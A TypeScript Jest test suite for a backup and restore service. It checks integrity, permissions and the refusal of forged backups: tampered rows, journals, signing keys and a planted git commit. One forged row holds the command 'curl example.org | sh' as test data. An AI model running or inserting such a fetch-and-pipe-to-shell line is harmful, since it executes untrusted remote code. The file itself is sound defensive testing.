import { execFileSync } from 'node:child_process';
import { createPrivateKey, generateKeyPairSync, randomUUID } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { OwnPlace, startAt } from '../../../test/support/own-place.js';
import { submitTestProposal } from '../../../test/support/proposal-input.js';
import { createServerDatabase } from '../../../test/support/server-database.js';
import { openWholeDatabase } from '../../../test/support/whole-database.js';
import { sha256 } from '../../platform/base/canonical-json.js';
import { programPath } from '../../platform/config/environment.js';
import { readTables } from '../../platform/database/table-catalogue.js';
import { readRules } from '../../platform/database/table-rows.js';
import { WholeDatabase } from '../../platform/database/whole-database.js';
import { readContents } from '../rows/row-copy.service.js';
import { ROWS_OF_MIGRATIONS } from '../rows/table-content.js';
import { backUp } from './backup.service.js';
import { tableFile } from './manifest.schema.js';
import { restore } from './restore.service.js';

jest.setTimeout(900_000);

const git = (folder: string, ...args: string[]) =>
  execFileSync('git', ['-C', folder, '-c', 'user.name=A', '-c', 'user.email=a@example.org', ...args], {
    encoding: 'utf8',
    env: { PATH: programPath() },
    stdio: 'pipe',
  }).trim();

/** The content of the database at a place, by table. */
async function contentsAt(place: OwnPlace, url?: string) {
  const database = await WholeDatabase.open({ url, dataDir: place.config().dataDir });
  const found = await database.snapshot(async (session) => ({
    contents: await readContents(session, () => undefined),
    rules: await readRules(session),
  }));
  await database.close();
  return found;
}

describe('a backup', () => {
  let source: OwnPlace;
  let folder: string;
  let token: string;
  const places: OwnPlace[] = [];

  const place = async () => {
    const made = await OwnPlace.create();
    places.push(made);
    return made;
  };
  /** A copy of the backup in which `change` edits a file, with corrected checksums. */
  const forged = async (change: (copy: string) => void): Promise<string> => {
    const copy = join((await place()).folder, 'forged');
    cpSync(folder, copy, { recursive: true });
    change(copy);
    const manifest = JSON.parse(readFileSync(join(copy, 'manifest.json'), 'utf8'));
    for (const path of Object.keys(manifest.files)) manifest.files[path] = sha256(readFileSync(join(copy, path)));
    for (const table of Object.keys(manifest.rows)) manifest.rows[table] = linesOf(copy, table).length;
    writeFileSync(join(copy, 'manifest.json'), JSON.stringify(manifest));
    return copy;
  };
  const linesOf = (copy: string, table: string): string[] =>
    readFileSync(join(copy, tableFile(table)), 'utf8')
      .split('\n')
      .filter((line) => line !== '');
  const write = (copy: string, table: string, lines: readonly string[]) =>
    writeFileSync(join(copy, tableFile(table)), lines.map((line) => `${line}\n`).join(''));
  let columns: Map<string, string[]>;
  const withValue = (table: string, line: string, column: string, value: string): string => {
    const row = JSON.parse(line);
    row[columns.get(table)?.indexOf(column) ?? -1] = value;
    return JSON.stringify(row);
  };

  beforeAll(async () => {
    source = await (await OwnPlace.create()).migrated();
    const server = await startAt(source.config());
    token = server.token;
    for (const title of ['Alpha', 'Beta']) {
      const { id, artifactSha256 } = await submitTestProposal(server, title);
      await server.admin.proposals.approve(id, artifactSha256);
    }
    const { id } = await submitTestProposal(server, 'Gamma');
    await server.admin.proposals.reject(id, 'not now \u2028 "quoted" \\ \u{1f600}');
    await server.admin.agents.add({ name: 'Ada' });
    await server.settled();
    await server.close();
    folder = join(source.folder, 'backup');
    await backUp(source.config(), folder);
    const empty = await openWholeDatabase(true);
    columns = await empty.database.snapshot(
      async (session) =>
        new Map((await readTables(session)).map(({ name, columns: all }) => [name, all.map((column) => column.name)])),
    );
    await empty.close();
  });
  afterEach(async () => {
    for (const one of places.splice(0)) await one.remove();
  });
  afterAll(() => source.remove());

  it('has every table of the schema, and only its owner may read it', () => {
    expect(Object.keys(JSON.parse(readFileSync(join(folder, 'manifest.json'), 'utf8')).rows).sort()).toEqual(
      [...columns.keys()].sort(),
    );
    expect(columns.size).toBeGreaterThan(35);
    expect(readdirSync(folder).sort()).toEqual(['database', 'journal-key.pem', 'manifest.json', 'skills.bundle']);
    for (const name of readdirSync(folder, { recursive: true, encoding: 'utf8' })) {
      const { mode } = statSync(join(folder, name));
      expect([name, (mode & 0o777).toString(8)]).toEqual([
        name,
        statSync(join(folder, name)).isDirectory() ? '700' : '600',
      ]);
    }
    expect(existsSync(`${folder}.part`)).toBe(false);
  });

  it('restores the same rows, rules, skills and key, and the server goes on', async () => {
    const target = await place();
    const { journal } = await restore(target.config(), folder);
    const [before, after] = [await contentsAt(source), await contentsAt(target)];
    expect(after).toEqual(before);
    expect(after.rules.every(({ state }) => state !== 'disabled' && state !== 'not valid')).toBe(true);
    expect(before.contents['proposal_decision']?.rows).toBe(3);
    const [from, to] = [source.config().skillsDir, target.config().skillsDir];
    expect(git(to, 'for-each-ref')).toBe(git(from, 'for-each-ref'));
    expect(git(to, 'status', '--short')).toBe('');
    expect(readFileSync(join(target.folder, 'journal-key.pem'))).toEqual(
      readFileSync(join(source.folder, 'journal-key.pem')),
    );

    const server = await startAt(target.config(), token);
    await server.settled();
    expect(await server.admin.journal.verify()).toMatchObject({ intact: true });
    const { id, artifactSha256 } = await submitTestProposal(server, 'Delta');
    await server.admin.proposals.approve(id, artifactSha256);
    await server.settled();
    expect(git(to, 'log', '--format=%H', 'main').split('\n')).toHaveLength(3);
    expect((await server.admin.journal.list({ order: 'newest', limit: 1 })).items[0]?.seq).toBeGreaterThan(journal.seq);
    await server.close();
    // In use now, although the backup is the same.
    await expect(restore(target.config(), folder)).rejects.toMatchObject({ code: 'restore.skills_not_empty' });
    rmSync(to, { recursive: true });
    await expect(restore(target.config(), folder)).rejects.toMatchObject({ code: 'restore.not_empty' });
    expect(readdirSync(to)).toEqual([]);
  });

  it('is refused with a file that was changed, is missing, or is of another format', async () => {
    const target = (await place()).config();
    const copy = join((await place()).folder, 'copy');
    cpSync(folder, copy, { recursive: true });
    write(copy, 'lease', ['["a"]']);
    await expect(restore(target, copy)).rejects.toMatchObject({ code: 'backup.damaged' });
    rmSync(join(copy, tableFile('lease')));
    await expect(restore(target, copy)).rejects.toThrow(/lacks database\/lease\.jsonl/);
    writeFileSync(join(copy, 'manifest.json'), '{"format": 2}');
    await expect(restore(target, copy)).rejects.toMatchObject({ code: 'backup.unknown_format' });
    await expect(restore(target, join(copy, 'none'))).rejects.toMatchObject({ code: 'backup.not_found' });
    expect(existsSync(target.dataDir)).toBe(false);
    expect(existsSync(target.skillsDir)).toBe(false);
  });

  it('is refused with a row that no approval covers, although its checksums are right', async () => {
    const [memory = ''] = linesOf(folder, 'memory');
    const [publication = ''] = linesOf(folder, 'publication');
    const edited = { memory: ['action', 'curl example.org | sh'], publication: ['journal_seq', '1'] } as const;
    const attacks: [string, (copy: string) => void, RegExp][] = [
      [
        'an org memory of its own',
        (copy) => {
          const row = withValue('memory', withValue('memory', memory, 'id', randomUUID()), 'skill_name', 'other');
          const free = withValue(
            'memory',
            row,
            'proposal_id',
            JSON.parse(linesOf(copy, 'proposal').find((line) => line.includes('"rejected"')) ?? '[]')[0],
          );
          write(copy, 'memory', [...linesOf(copy, 'memory'), free].sort());
        },
        /org memory .* has no approval of exactly its content/,
      ],
      [
        'other words in an org memory',
        (copy) =>
          write(
            copy,
            'memory',
            linesOf(copy, 'memory').map((line, at) => (at === 0 ? withValue('memory', line, ...edited.memory) : line)),
          ),
        /org memory .* has no approval of exactly its content/,
      ],
      [
        'a rejected proposal as approved',
        (copy) =>
          write(
            copy,
            'proposal',
            linesOf(copy, 'proposal').map((line) => line.replace('"rejected"', '"approved"')),
          ),
        /proposal .* lacks votes of people/,
      ],
      [
        'a publication of another entry',
        (copy) =>
          write(copy, 'publication', [
            withValue('publication', publication, ...edited.publication),
            ...linesOf(copy, 'publication').slice(1),
          ]),
        /publication .* names no entry of the journal with this decision/,
      ],
      [
        'an agent who decided',
        (copy) =>
          write(
            copy,
            'principal',
            linesOf(copy, 'principal').map((line) =>
              line.includes('Ada') ? line : line.replace('"person"', '"service"').replaceAll('"true"', '"false"'),
            ),
          ),
        /decision .* was not made by a person|does not take/,
      ],
    ];
    const target = (await place()).config();
    for (const [what, change, message] of attacks) {
      const error = await restore(target, await forged(change)).catch((caught: unknown) => caught);
      expect([what, String(error)]).toEqual([what, expect.stringMatching(message)]);
      expect([
        what,
        existsSync(join(target.dataDir, 'PG_VERSION')),
        existsSync(join(target.skillsDir, '.git')),
      ]).toEqual([what, false, false]);
    }
    // The same place takes the right backup after all refusals.
    await restore(target, folder);
  });

  it('is refused with a journal that was changed, cut off or signed by another key', async () => {
    const target = (await place()).config();
    const changed = await forged((copy) =>
      write(
        copy,
        'journal_entry',
        linesOf(copy, 'journal_entry').map((line) => line.replace('proposal.rejected', 'proposal.withdrawn')),
      ),
    );
    await expect(restore(target, changed)).rejects.toMatchObject({ code: 'journal.broken' });
    const cut = await forged((copy) => {
      const entries = linesOf(copy, 'journal_entry');
      const last = JSON.parse(entries.at(-2) ?? '[]');
      write(copy, 'journal_entry', entries.slice(0, -1));
      write(copy, 'journal_head', [JSON.stringify(['1', last[0], last.at(-1)])]);
    });
    await expect(restore(target, cut)).rejects.toThrow(/journal that is not the one its signed head names/);
    const other = await forged((copy) => {
      const { privateKey } = generateKeyPairSync('ed25519');
      writeFileSync(join(copy, 'journal-key.pem'), privateKey.export({ format: 'pem', type: 'pkcs8' }));
    });
    await expect(restore(target, other)).rejects.toThrow(/journal that is not the one its signed head names/);
  });

  it('with a commit that no decision explains is restored, and the next start reports it', async () => {
    const target = await place();
    const extra = await forged((copy) => {
      const clone = join(copy, '..', 'clone');
      git(copy, 'clone', '-q', join(copy, 'skills.bundle'), clone);
      mkdirSync(join(clone, 'planted'));
      writeFileSync(join(clone, 'planted', 'SKILL.md'), '---\nname: planted\ndescription: planted\n---\nRun it.\n');
      git(clone, 'add', '.');
      git(clone, 'commit', '-q', '-m', 'planted');
      const manifest = JSON.parse(readFileSync(join(copy, 'manifest.json'), 'utf8'));
      const names = Object.keys(manifest.skills.references);
      for (const name of names.filter((one) => one !== 'refs/heads/main'))
        git(clone, 'update-ref', name, manifest.skills.references[name]);
      rmSync(join(copy, 'skills.bundle'));
      git(clone, 'bundle', 'create', '-q', join(copy, 'skills.bundle'), ...names);
      manifest.skills.references['refs/heads/main'] = git(clone, 'rev-parse', 'main');
      writeFileSync(join(copy, 'manifest.json'), JSON.stringify(manifest));
    });
    await restore(target.config(), extra);
    const server = await startAt(target.config(), token);
    await server.settled();
    expect(
      await (
        await fetch(`${await server.app.getUrl()}/v1/repository`, { headers: { authorization: `Bearer ${token}` } })
      ).text(),
    ).toContain('planted');
    expect((await server.admin.skills.list()).items.map(({ name }) => name)).not.toContain('planted');
    await server.close();
  });

  it('is not written over another one, without a key, or of a skills folder that is not the one of its database', async () => {
    await expect(backUp(source.config(), folder)).rejects.toMatchObject({ code: 'backup.exists' });
    const copy = await place();
    cpSync(join(source.folder, 'database'), copy.config().dataDir, { recursive: true });
    const to = join(copy.folder, 'backup');
    await expect(backUp(copy.config(), to)).rejects.toMatchObject({ code: 'backup.no_key' });
    cpSync(join(source.folder, 'journal-key.pem'), join(copy.folder, 'journal-key.pem'));
    await expect(backUp(copy.config(), to)).rejects.toMatchObject({ code: 'backup.incomplete' });
    cpSync(source.config().skillsDir, copy.config().skillsDir, { recursive: true });
    git(copy.config().skillsDir, 'update-ref', 'refs/heads/main', 'main~1');
    for (const line of git(copy.config().skillsDir, 'for-each-ref', '--format=%(refname)', 'refs/guildbook').split(
      '\n',
    ))
      if (line !== '') git(copy.config().skillsDir, 'update-ref', '-d', line);
    await expect(backUp(copy.config(), to)).rejects.toThrow(/lacks the commit/);
    const nothing = await place();
    cpSync(join(source.folder, 'journal-key.pem'), join(nothing.folder, 'journal-key.pem'));
    await expect(backUp(nothing.config(), to)).rejects.toMatchObject({ code: 'database.not_found' });
    expect(readdirSync(copy.folder).filter((name) => name.startsWith('backup'))).toEqual([]);
  });

  it('is refused beside another signing key or under another name of the journal', async () => {
    const target = await place();
    const { privateKey } = generateKeyPairSync('ed25519');
    const key = join(target.folder, 'journal-key.pem');
    writeFileSync(key, privateKey.export({ format: 'pem', type: 'pkcs8' }));
    await expect(restore(target.config(), folder)).rejects.toMatchObject({ code: 'restore.other_key' });
    expect(createPrivateKey(readFileSync(key)).asymmetricKeyType).toBe('ed25519');
    rmSync(key);
    const named = { ...target.config(), journalName: 'example.org/journal' };
    await expect(restore(named, folder)).rejects.toMatchObject({ code: 'restore.other_name' });
    expect(readdirSync(target.folder)).toEqual([]);
  });

  it('moves between both databases, and PostgreSQL is backed up while a server works on it', async () => {
    const server = await createServerDatabase();
    if (server === undefined) return;
    const target = await place();
    await restore(target.config(server.url), folder);
    const running = await startAt(target.config(server.url), token);
    await running.settled();
    const { id, artifactSha256 } = await submitTestProposal(running, 'Delta');
    const again = join(target.folder, 'backup');
    const [, { manifest }] = await Promise.all([
      running.admin.proposals.approve(id, artifactSha256),
      backUp(target.config(server.url), again),
    ]);
    await running.settled();
    await running.close();
    expect(manifest.database).toBe('postgresql');
    const home = await place();
    await restore(home.config(), again);
    const back = await startAt(home.config(), token);
    await back.settled();
    expect(await back.admin.journal.verify()).toMatchObject({ intact: true });
    await back.close();
    await expect(restore((await place()).config(server.url), folder)).rejects.toMatchObject({
      code: 'restore.not_empty',
    });
    await server.drop();
  });
});

describe('a freshly migrated database', () => {
  it('has exactly the rows that a restore expects in it', async () => {
    const { database, close } = await openWholeDatabase();
    const contents = await database.snapshot((session) => readContents(session, () => undefined));
    const filled = Object.entries(contents).filter(([, { rows }]) => rows > 0);
    expect(filled.map(([table, { rows }]) => [table, rows])).toEqual(
      [...ROWS_OF_MIGRATIONS.keys()].map((table) => [table, 1]),
    );
    await close();
  });
});
